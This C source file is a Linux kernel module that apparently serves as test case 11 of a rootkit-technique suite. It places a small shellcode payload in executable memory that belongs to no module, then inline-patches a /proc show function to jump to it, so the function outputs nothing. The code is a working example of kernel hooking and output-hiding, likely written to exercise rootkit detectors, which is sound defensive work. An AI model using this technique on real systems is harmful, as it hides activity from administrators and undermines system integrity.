// SPDX-License-Identifier: GPL-2.0
/*
 * 11. Shellcode outside any module: a few bytes of code copied into
 * memory the module makes executable itself, in vmalloc space
 * (where=vmalloc, as module_alloc gives) or in the direct map
 * (where=direct, a page of the page allocator), and a jump to it written
 * into the body of the `target` /proc show function. The code belongs to no
 * module: a loader could unload and leave it running.
 */
#include <linux/module.h>
#include <linux/gfp.h>
#include <linux/mm.h>
#include "rk_common.h"
#include "rk_common_show.h"

static char *where = "vmalloc";
module_param(where, charp, 0);

/* endbr64; xor %eax,%eax; ret: a show function that shows nothing. */
static const u8 payload[] = { 0xf3, 0x0f, 0x1e, 0xfa, 0x31, 0xc0, 0xc3 };

static void *(*rk_module_alloc)(unsigned long size);
static void (*rk_module_memfree)(void *p);
static int (*rk_set_x)(unsigned long addr, int numpages);
static int (*rk_set_nx)(unsigned long addr, int numpages);
static struct page *page;
static u8 *code, *site;
static u8 saved[12];
static size_t patched;

static int __init rk_init(void)
{
	u8 *fn = (u8 *)rk_lookup(target);
	u8 jmp[12];
	long rel;

	rk_module_alloc = (void *)rk_lookup("module_alloc");
	rk_module_memfree = (void *)rk_lookup("module_memfree");
	rk_set_x = (void *)rk_lookup("set_memory_x");
	rk_set_nx = (void *)rk_lookup("set_memory_nx");
	if (!fn || !rk_module_alloc || !rk_module_memfree || !rk_set_x || !rk_set_nx)
		return -ENOENT;
	if (!strcmp(where, "direct")) {
		page = alloc_page(GFP_KERNEL | __GFP_ZERO);
		code = page ? page_address(page) : NULL;
	} else {
		code = rk_module_alloc(PAGE_SIZE);
	}
	if (!code)
		return -ENOMEM;
	memset(code, 0xcc, PAGE_SIZE);
	memcpy(code, payload, sizeof(payload));
	rk_set_x((unsigned long)code, 1);

	site = fn + rk_body_offset(fn);
	rel = (long)code - (long)(site + 5);
	if (rel == (s32)rel) {
		s32 r = rel;

		jmp[0] = 0xe9;
		memcpy(jmp + 1, &r, 4);
		patched = 5;
	} else {
		/* movabs $code,%rax; jmp *%rax */
		jmp[0] = 0x48;
		jmp[1] = 0xb8;
		memcpy(jmp + 2, &code, 8);
		jmp[10] = 0xff;
		jmp[11] = 0xe0;
		patched = 12;
	}
	memcpy(saved, site, patched);
	rk_write(site, jmp, patched);
	pr_info("rk_shellcode: %s jumps to %s code at %px\n", target, where, code);
	return 0;
}

static void __exit rk_exit(void)
{
	rk_write(site, saved, patched);
	rk_set_nx((unsigned long)code, 1);
	if (page)
		__free_page(page);
	else
		rk_module_memfree(code);
}

module_init(rk_init);
module_exit(rk_exit);
MODULE_LICENSE("GPL");
